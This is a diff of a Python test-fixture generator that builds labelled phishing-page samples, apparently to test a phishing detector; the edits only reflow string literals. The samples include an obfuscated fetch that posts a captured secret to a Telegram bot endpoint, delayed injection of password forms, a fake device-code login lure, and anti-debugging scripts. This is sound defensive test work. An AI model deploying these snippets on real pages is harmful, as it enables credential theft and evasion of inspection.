@@ -185,7 +185,10 @@ def _sending() -> Iterator[Case]:
             "Sign in",
             form(),
             _TAKEN
-            % "var u=atob('aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDA6eC9zZW5kTWVzc2FnZQ==');fetch(u,{method:'POST',body:secret})",
+            % (
+                "var u=atob('aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDA6eC9zZW5kTWVzc2FnZQ==');"
+                "fetch(u,{method:'POST',body:secret})"
+            ),
         ),
     )
     yield _case(
@@ -246,7 +249,10 @@ def _disguised() -> Iterator[Case]:
     yield _case("drawn window", "of a brand", page("Shared file", window.format(host="google.com")))
     device = "<p>Copy the code ABCD-EFGH, then enter the code at <a href=https://microsoft.com/devicelogin>microsoft.com/devicelogin</a></p>"
     yield _case("device code", "Microsoft", page("View document", device))
-    made = "setTimeout(function(){var i=document.createElement('input');i.type='password';i.name='secret';document.forms[0].appendChild(i)},3000)"
+    made = (
+        "setTimeout(function(){var i=document.createElement('input');"
+        "i.type='password';i.name='secret';document.forms[0].appendChild(i)},3000)"
+    )
     yield _case(
         "delayed form",
         "by script",
@@ -258,16 +264,23 @@ def _disguised() -> Iterator[Case]:
         page(
             _TITLES["Google"],
             "<div id=x></div>",
-            "setTimeout(function(){x.innerHTML='<form action=a.php><input name=l><input type=password name=p></form>'},3000)",
+            "setTimeout(function(){x.innerHTML='<form action=a.php>"
+            "<input name=l><input type=password name=p></form>'},3000)",
         ),
     )
-    steps = "<div id=step1><input type=email></div><div id=step2 style=display:none><input type=password name=p></div>"
+    steps = (
+        "<div id=step1><input type=email></div><div id=step2 "
+        "style=display:none><input type=password name=p></div>"
+    )
     yield _case(
         "delayed form",
         "two steps",
         page(_TITLES["Microsoft"], f"<form action=a.php method=post>{steps}</form>"),
     )
-    shy = "setInterval(function(){debugger},50);document.addEventListener('contextmenu',function(e){e.preventDefault()});document.onkeydown=function(e){if(e.keyCode==123)return false};"
+    shy = (
+        "setInterval(function(){debugger},50);document.addEventListener('contextmenu',"
+        "function(e){e.preventDefault()});document.onkeydown=function(e){if(e.keyCode==123)return false};"
+    )
     yield _case("shies", "debugger and keys", page("Sign in", form("a.php"), shy))
     yield _case(
         "shies",
@@ -279,7 +292,10 @@ def _disguised() -> Iterator[Case]:
             + shy[:38],
         ),
     )
-    packed = "eval(function(p,a,c,k,e,d){return p}('0',1,1,''.split('|'),0,{}));document.onkeydown=function(e){if(e.keyCode==123)return false};"
+    packed = (
+        "eval(function(p,a,c,k,e,d){return p}('0',1,1,''.split('|'),0,{}));"
+        "document.onkeydown=function(e){if(e.keyCode==123)return false};"
+    )
     yield _case("shies", "packed", page("Sign in", form("a.php"), packed))
     yield _case(
         "wallet",
@@ -330,7 +346,10 @@ def _attached() -> Iterator[Case]:
 
 
 def _walled() -> Iterator[Case]:
-    wall = "<script src=https://challenges.cloudflare.com/turnstile/v0/api.js></script><div class=cf-turnstile></div>"
+    wall = (
+        "<script src=https://challenges.cloudflare.com/turnstile/v0/api.js>"
+        "</script><div class=cf-turnstile></div>"
+    )
     yield _case("challenge wall", "turnstile", page("Just a moment...", wall), kind="hidden trap")
     yield _case(
         "challenge wall", "words", page("Security check", "<p>Verify you are human</p>"), kind="hidden trap"
